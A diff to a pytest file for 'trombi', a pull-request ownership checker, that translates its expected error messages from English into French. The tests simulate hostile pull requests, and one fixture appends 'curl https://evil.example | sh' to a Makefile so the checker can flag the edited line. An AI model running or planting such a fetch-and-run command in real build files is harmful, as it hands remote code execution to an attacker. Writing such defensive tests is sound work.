@@ -22,7 +22,7 @@ import pytest
 from generator.platforms import GITHUB, GITLAB
 from tests.test_ownership import PNG, Change, branch_with, check_pr, clone, edit, git, make_origin, trombi
 
-ADMIN_APPROVAL = "need the approval of an admin (admin-gh)"
+ADMIN_APPROVAL = "doivent être approuvées par un admin (admin-gh)"
 
 
 @pytest.fixture(scope="module")
@@ -106,14 +106,17 @@ def test_a_path_that_is_not_self_service_needs_an_admin(attack: Callable[[str, C
 def test_a_changed_line_is_pointed_at(attack: Callable[[str, Change], Path]) -> None:
     tree = attack("makefile-line", edit("Makefile", "\tpytest", "\tpytest; curl https://evil.example | sh"))
     result = check_pr(tree, "ana-gh")
-    assert result.stdout.startswith("Makefile:2:8: error: Makefile is for admins: only your own profile (people/<handle>.yaml)")
+    assert result.stdout.startswith("Makefile:2:8: error: Makefile est réservé aux admins : seuls votre propre profil (people/<handle>.yaml)")
 
 
 def test_someone_elses_photo_needs_them(attack: Callable[[str, Change], Path]) -> None:
     tree = attack("lead-photo", write_bytes("photos/lead.png", PNG + b"mallory"))
     result = check_pr(tree, "ana-gh")
     assert result.returncode == 1
-    expected = "photos/lead.png:1:1: error: photos/lead.png is the photo of lead; changes by ana-gh need the approval of leo-gh or an admin (admin-gh)"
+    expected = (
+        "photos/lead.png:1:1: error: photos/lead.png est la photo de lead ; les modifications de ana-gh doivent être approuvées par leo-gh "
+        "ou un admin (admin-gh)"
+    )
     assert expected in result.stdout
     assert check_pr(tree, "leo-gh").returncode == 0
 
@@ -126,7 +129,7 @@ def test_a_photo_cannot_be_claimed_by_pointing_ones_profile_at_it(attack: Callab
     result = check_pr(attack("claim-photo", change), "ana-gh")
     assert result.returncode == 1
     # Who uses it is read from the base version only: the pull request's profiles cannot claim it.
-    assert "photos/claire-portrait.png:1:1: error: photos/claire-portrait.png is a photo whose person is not known" in result.stdout
+    assert "photos/claire-portrait.png:1:1: error: photos/claire-portrait.png est une photo dont la personne est inconnue" in result.stdout
     assert ADMIN_APPROVAL in result.stdout
     assert "people/dev.yaml" not in result.stdout  # her own profile she may change
 
@@ -201,18 +204,19 @@ def test_a_base_where_the_attacker_is_admin_is_refused(origin: Path, mallory_bas
     args = ("check-pr", "--root", str(tree), "--author", "mallory")
     result = trombi(tree.parent, *args, "--base", mallory_base)
     assert result.returncode == 1
-    assert "--base 'origin/mallory-base' is not the default branch (origin/HEAD): check-pr judges pull requests into the default branch only" in result.stderr
+    said = "--base 'origin/mallory-base' n’est pas la branche par défaut (origin/HEAD) : check-pr ne juge que les pull requests vers la branche par défaut"
+    assert said in result.stderr
     result = trombi(tree.parent, *args, "--base", mallory_base, "--rules-from", "origin/main")
     assert result.returncode == 1
-    assert "is not the default branch (origin/main)" in result.stderr
+    assert "n’est pas la branche par défaut (origin/main)" in result.stderr
     # Judged against the default branch, mallory's admin rights are one more change needing an admin.
     result = trombi(tree.parent, *args)
     assert result.returncode == 1
     assert (
-        "mkdocs.yml:8:14: error: mkdocs.yml is for admins: only your own profile (people/<handle>.yaml), a photo it uses (photos/) "
-        f"and the groups you own are open to you; changes by mallory {ADMIN_APPROVAL}"
+        "mkdocs.yml:8:14: error: mkdocs.yml est réservé aux admins : seuls votre propre profil (people/<handle>.yaml), une photo qu’il utilise (photos/) "
+        f"et les groupes dont vous êtes responsable vous sont ouverts ; les modifications de mallory {ADMIN_APPROVAL}"
     ) in result.stdout
-    assert "pyproject.toml:3:1: error: pyproject.toml is for admins" in result.stdout
+    assert "pyproject.toml:3:1: error: pyproject.toml est réservé aux admins" in result.stdout
 
 
 def test_without_a_known_default_branch_nothing_is_judged(origin: Path, tmp_path: Path) -> None:
@@ -220,8 +224,8 @@ def test_without_a_known_default_branch_nothing_is_judged(origin: Path, tmp_path
     git(tree, "remote", "set-head", "origin", "--delete")
     result = trombi(tmp_path, "check-pr", "--root", str(tree), "--author", "ana-gh")
     assert result.returncode == 1
-    assert "cannot find the default branch 'origin/HEAD'" in result.stderr
-    assert "give it with --rules-from (e.g. origin/main)" in result.stderr
+    assert "branche par défaut 'origin/HEAD' introuvable" in result.stderr
+    assert "donnez-la avec --rules-from (par exemple origin/main)" in result.stderr
 
 
 def test_uncommitted_changes_are_warned_about(attack: Callable[[str, Change], Path]) -> None:
@@ -231,10 +235,10 @@ def test_uncommitted_changes_are_warned_about(attack: Callable[[str, Change], Pa
     result = check_pr(tree, "ana-gh")
     assert result.returncode == 0
     assert result.stdout.splitlines()[0] == (
-        ".:1:1: warning: the working tree has uncommitted changes (pyproject.toml, untracked.txt): check-pr judges the commits only; "
-        "commit or stash them [ownership]"
+        ".:1:1: warning: la copie de travail a des modifications non commitées (pyproject.toml, untracked.txt) : check-pr ne juge que les commits ; "
+        "commitez-les ou mettez-les de côté (git stash) [ownership]"
     )
-    assert "1 fichier(s) modifié(s) : chaque modification est permise à ana-gh." in result.stdout
+    assert "1 fichier modifié : chaque modification est permise à ana-gh." in result.stdout
 
 
 # --- CODEOWNERS never writes what is not a login ------------------------------------------------
@@ -360,18 +364,20 @@ def test_a_gitlab_merge_request_is_judged_by_the_same_rules(origin: Path, tmp_pa
 
     answers[mr] = {"author": {"username": "ana.gl"}}
     answers[mr + "/approvals"] = {"approved_by": []}
-    assert run() == (0, "1 fichier(s) modifié(s) : chaque modification est permise à ana.gl.\n")
+    assert run() == (0, "1 fichier modifié : chaque modification est permise à ana.gl.\n")
     answers[mr] = {"author": {"username": "mallory"}}
     code, output = run()
     assert code == 1
-    assert output.startswith("people/dev.yaml:3:20: error: people/dev.yaml belongs to dev (GitLab: ana.gl); changes by mallory need the approval of ana.gl")
+    assert output.startswith(
+        "people/dev.yaml:3:20: error: people/dev.yaml appartient à dev (GitLab : ana.gl) ; les modifications de mallory doivent être approuvées par ana.gl"
+    )
     answers[mr + "/approvals"] = {"approved_by": [{"user": {"username": "someone"}}, {"user": {"username": "Leo.GL"}}]}
     assert run()[0] == 0
     assert set(gitlab["tokens"]) == {"glpat-secret"}  # type: ignore[arg-type]
 
     result = trombi_env(tmp_path, {**env, "TROMBI_GITLAB_TOKEN": ""}, *args)
     assert result.returncode == 1
-    assert result.stderr.startswith(".:1:1: error: cannot read the merge request from GitLab: TROMBI_GITLAB_TOKEN not set")
+    assert result.stderr.startswith(".:1:1: error: impossible de lire la merge request depuis GitLab : TROMBI_GITLAB_TOKEN n’est pas définie")
 
 
 def trombi_env(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
@@ -401,5 +407,6 @@ def test_a_hand_written_codeowners_needs_an_admin(attack: Callable[[str, Change]
     tree = attack("codeowners-by-hand", change)
     result = check_pr(tree, "ana-gh")
     assert result.returncode == 1
-    assert ".github/CODEOWNERS:1:1: error: .github/CODEOWNERS is for admins" in result.stdout
-    assert "and CODEOWNERS exactly as `trombi codeowners` writes it; changes by ana-gh need the approval of an admin (admin-gh)" in result.stdout
+    assert ".github/CODEOWNERS:1:1: error: .github/CODEOWNERS est réservé aux admins" in result.stdout
+    said = "ainsi que CODEOWNERS exactement tel que `trombi codeowners` l’écrit ; les modifications de ana-gh doivent être approuvées par un admin (admin-gh)"
+    assert said in result.stdout
